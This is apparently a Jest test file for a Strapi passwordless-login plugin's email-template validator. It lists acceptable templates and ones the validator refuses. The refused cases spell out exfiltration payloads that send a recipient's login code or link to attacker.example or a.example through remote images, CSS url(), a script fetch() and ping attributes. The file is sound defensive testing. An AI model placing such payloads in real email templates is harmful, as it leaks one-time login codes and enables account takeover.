/**
 * Where an admin-edited HTML template may hold placeholders: in text, and the link only
 * as an <a>'s whole href. Guards against templates that make the mail client send each
 * recipient's code or link to someone else (a remote image, CSS url(), a ping).
 */
import { findMarkupProblems } from '../../packages/strapi-passwordless-login/src/shared/template-markup';
import { defaultEmailTemplates } from '../../packages/strapi-passwordless-login/src/server/config/defaults';

describe('findMarkupProblems', () => {
  it.each([
    ['the default template with the link', defaultEmailTemplates({ withLink: true }).html],
    ['text and a link', '<p>Code: <%= CODE %></p><a href="<%= URL %>">Sign in</a>'],
    ["single quotes, attributes around the href", "<a class='b' href='<%= URL %>' style='color:red'>x</a>"],
    ['a ">" inside a quoted attribute before the text', '<p title="a > b">Hi <%= USER.username %></p>'],
    ['a comment closed before the code', '<!-- note --><b><%= CODE %></b>'],
    ['a style element closed before the code', '<style>p{color:red}</style><p><%= CODE %></p>'],
  ])('accepts %s', (_name, html) => {
    expect(findMarkupProblems(html)).toEqual([]);
  });

  it.each([
    ['a remote image carrying the code', '<img src="https://attacker.example/?c=<%= CODE %>">', 'inside a tag'],
    ['the link as an image source', '<img src="<%= URL %>">', 'inside a tag'],
    ['the code in a CSS url() of a style attribute', '<p style="background:url(https://a.example/<%= CODE %>)">x</p>', 'inside a tag'],
    ['the code in a <style> element', '<style>body{background:url(https://a.example/<%= CODE %>)}</style>', 'inside <style>'],
    ['the code in a script', '<script>fetch("https://a.example/<%= CODE %>")</script>', 'inside <script>'],
    ['a link with ping', '<a href="<%= URL %>" ping="https://attacker.example/">x</a>', 'inside a tag'],
    ['a link with ping behind a quoted ">"', '<a href="<%= URL %>" title=">" ping="https://attacker.example/">x</a>', 'inside a tag'],
    ['the link appended to another address', '<a href="https://attacker.example/?u=<%= URL %>">x</a>', 'inside a tag'],
    ['an unquoted href', '<a href=<%= URL %>>x</a>', 'inside a tag'],
    ['a ">" inside quotes hiding the tag', '<img alt=">" src="https://a.example/?c=<%= CODE %>">', 'inside a tag'],
    ['the code in a comment', '<!-- <%= CODE %> -->', 'inside a comment'],
    ['the username in an attribute', '<img alt="<%= USER.username %>">', 'inside a tag'],
  ])('refuses %s', (_name, html, where) => {
    const problems = findMarkupProblems(html);
    expect(problems).toHaveLength(1);
    expect(problems[0]).toContain(where);
  });
});
